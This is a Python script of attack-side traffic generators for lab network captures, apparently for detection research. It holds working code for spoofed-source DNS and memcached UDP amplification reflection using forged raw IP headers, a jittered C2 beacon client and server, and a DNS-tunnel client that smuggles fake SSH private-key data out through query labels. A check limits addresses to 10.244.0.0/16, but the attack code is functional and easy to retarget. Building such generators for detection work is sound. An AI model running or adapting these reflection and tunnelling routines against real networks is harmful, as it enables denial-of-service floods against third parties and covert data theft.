#!/usr/bin/env python3
"""Attack-side tools for the behaviour captures (lab only: every address must be in 10.244.0.0/16).

  attacks.py reflect-dns VICTIM REFLECTOR COUNT SECONDS NAME[:TYPE]...
        spoofed DNS queries (raw socket, IP_HDRINCL, IP source = VICTIM) with an EDNS0 OPT record
        (UDP payload size 4096), round-robin over NAME:TYPE (TYPE ANY or TXT), spread over SECONDS
  attacks.py reflect-memcached VICTIM REFLECTOR PORT COUNT SECONDS KEY
        spoofed memcached UDP requests (8-byte frame header + "get KEY") from VICTIM
  attacks.py beacon-server ADDR PORT           C2 stub: reads a ~120-byte check-in, answers 60 bytes
  attacks.py beacon DST PORT COUNT PERIOD JITTER
        a new TCP connection every PERIOD s +- JITTER (fraction), ~120 bytes up / ~60 bytes down
  attacks.py tunnel SERVER COUNT SECONDS DOMAIN
        DNS tunnel client: base32/hex chunks of a fake file as 40-60-char labels, 2-3 labels deep
        under DOMAIN, qtypes TXT (70 %), A (20 %), NULL (10 %)
  attacks.py sink ADDR PORT                    TCP server: answers every chunk it reads with ~200 bytes
  attacks.py talk DST PORT ROUNDS              TCP client: ROUNDS x (send ~150 bytes, read reply)
Every action is logged to stderr.
"""
import base64
import ipaddress
import random
import socket
import struct
import sys
import threading
import time

LAB = ipaddress.ip_network("10.244.0.0/16")


def log(*a):
    sys.stderr.write("%.3f %s\n" % (time.time(), " ".join(str(x) for x in a)))
    sys.stderr.flush()


def lab_only(*addrs):
    for a in addrs:
        if ipaddress.ip_address(a) not in LAB:
            sys.exit("refusing %s: not in %s" % (a, LAB))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def spoofed_udp(sock, src, sport, dst, dport, payload):
    """One IPv4/UDP datagram with a forged source, sent on a raw IP_HDRINCL socket."""
    ulen = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, ulen)
    udp = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
    c = csum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, random.randrange(65536), 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    sock.sendto(ip + udp, (dst, dport))


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


QTYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28, "ANY": 255}


def dns_query(tid, name, qtype, edns=None):
    q = struct.pack("!HHHHHH", tid, 0x0100, 1, 0, 0, 1 if edns else 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.strip(".").split(".")) + b"\0"
    q += struct.pack("!HH", qtype, 1)
    if edns:  # OPT RR: root name, type 41, class = UDP payload size, ttl 0, no options
        q += b"\0" + struct.pack("!HHIH", 41, edns, 0, 0)
    return q


def paced(count, seconds):
    gap = seconds / max(count, 1)
    t0 = time.time()
    for i in range(count):
        d = t0 + i * gap - time.time()
        if d > 0:
            time.sleep(d)
        yield i


def reflect_dns(victim, reflector, count, seconds, *names):
    lab_only(victim, reflector)
    s = raw_socket()
    targets = [(n.split(":")[0], QTYPES[(n.split(":") + ["ANY"])[1]]) for n in names]
    sport = 33000 + random.randrange(20000)  # the "victim's" port, fixed per attack like a real one
    for i in paced(count, seconds):
        name, qt = targets[i % len(targets)]
        spoofed_udp(s, victim, sport, reflector, 53, dns_query(random.randrange(65536), name, qt, edns=4096))
    log("reflect-dns sent", count, "spoofed queries src", victim, "->", reflector, "names", names)


def reflect_memcached(victim, reflector, port, count, seconds, key):
    lab_only(victim, reflector)
    s = raw_socket()
    sport = 33000 + random.randrange(20000)
    for i in paced(count, seconds):
        frame = struct.pack("!HHHH", i & 0xFFFF, 0, 1, 0)  # request id, seq, total datagrams, reserved
        spoofed_udp(s, victim, sport, reflector, port, frame + ("get %s\r\n" % key).encode())
    log("reflect-memcached sent", count, "spoofed requests src", victim, "->", "%s:%d" % (reflector, port))


def beacon_server(addr, port):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((addr, port))
    srv.listen(16)
    n = 0
    while True:
        c, peer = srv.accept()
        with c:
            c.settimeout(3)
            data = b""
            try:
                while len(data) < 120:
                    b = c.recv(4096)
                    if not b:
                        break
                    data += b
                n += 1
                task = b"TASK %04d sleep=2000 jitter=15 cmd=none\n" % n
                c.sendall(task.ljust(60, b"."))
            except OSError:
                pass
        log("beacon check-in", n, "from", peer[0], "bytes", len(data))


def beacon(dst, port, count, period, jitter):
    lab_only(dst)
    rng = random.Random(7)
    host = socket.gethostname()
    for i in range(count):
        msg = ("POST /c2 id=7f3a9c host=%s seq=%03d status=idle uptime=%d " % (host, i, i * 2)).encode()
        msg = msg.ljust(120, b"A")[:120]
        try:
            with socket.create_connection((dst, port), timeout=3) as c:
                c.sendall(msg)
                reply = c.recv(4096)
            log("beacon", i, "sent", len(msg), "got", len(reply))
        except OSError as e:
            log("beacon", i, "error", e)
        if i + 1 < count:
            time.sleep(period * (1 + rng.uniform(-jitter, jitter)))


def tunnel(server, count, seconds, domain):
    lab_only(server)
    rng = random.Random(11)
    blob = b"".join(b"-----BEGIN OPENSSH PRIVATE KEY----- cn-lab fake key material %06d " % i +
                    bytes(rng.randrange(256) for _ in range(40)) for i in range(200))
    enc = [base64.b32encode(blob).decode().rstrip("=").lower(), blob.hex()]
    pos = [0, 0]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    rc = {}
    for i in paced(count, seconds):
        k = 0 if i % 3 else 1  # two thirds base32, one third hex
        labels = []
        for _ in range(rng.choice([2, 2, 3])):
            n = rng.randint(40, 60)
            labels.append(enc[k][pos[k]:pos[k] + n])
            pos[k] = (pos[k] + n) % (len(enc[k]) - 60)
        name = "%s.%d.%s" % (".".join(labels), i, domain)
        x = rng.random()
        qt = 16 if x < 0.7 else (1 if x < 0.9 else 10)
        s.sendto(dns_query(rng.randrange(65536), name, qt), (server, 53))
        try:
            r, _ = s.recvfrom(4096)
            rc[r[3] & 15] = rc.get(r[3] & 15, 0) + 1
        except OSError:
            rc["timeout"] = rc.get("timeout", 0) + 1
    log("tunnel sent", count, "queries under", domain, "rcodes", rc)


def sink(addr, port):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((addr, port))
    srv.listen(16)

    def serve(c, peer):
        tot_in = tot_out = 0
        with c:
            c.settimeout(10)
            try:
                while True:
                    b = c.recv(4096)
                    if not b:
                        break
                    tot_in += len(b)
                    out = (b"OK %d " % tot_in).ljust(200, b"z") + b"\n"
                    c.sendall(out)
                    tot_out += len(out)
            except OSError:
                pass
        log("sink", port, "peer", peer[0], "in", tot_in, "out", tot_out)

    while True:
        c, peer = srv.accept()
        threading.Thread(target=serve, args=(c, peer), daemon=True).start()


def talk(dst, port, rounds):
    lab_only(dst)
    tot_in = tot_out = 0
    with socket.create_connection((dst, port), timeout=5) as c:
        for i in range(rounds):
            msg = ("%02d %s uname=Linux id=uid=0(root) " % (i, socket.gethostname())).encode().ljust(150, b"x")
            c.sendall(msg)
            tot_out += len(msg)
            tot_in += len(c.recv(4096))
            time.sleep(0.3)
        c.shutdown(socket.SHUT_WR)
        while True:
            b = c.recv(4096)
            if not b:
                break
            tot_in += len(b)
    log("talk", "%s:%d" % (dst, port), "sent", tot_out, "received", tot_in)


def main():
    cmd, a = sys.argv[1], sys.argv[2:]
    if cmd == "reflect-dns":
        reflect_dns(a[0], a[1], int(a[2]), float(a[3]), *a[4:])
    elif cmd == "reflect-memcached":
        reflect_memcached(a[0], a[1], int(a[2]), int(a[3]), float(a[4]), a[5])
    elif cmd == "beacon-server":
        beacon_server(a[0], int(a[1]))
    elif cmd == "beacon":
        beacon(a[0], int(a[1]), int(a[2]), float(a[3]), float(a[4]))
    elif cmd == "tunnel":
        tunnel(a[0], int(a[1]), float(a[2]), a[3])
    elif cmd == "sink":
        sink(a[0], int(a[1]))
    elif cmd == "talk":
        talk(a[0], int(a[1]), int(a[2]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
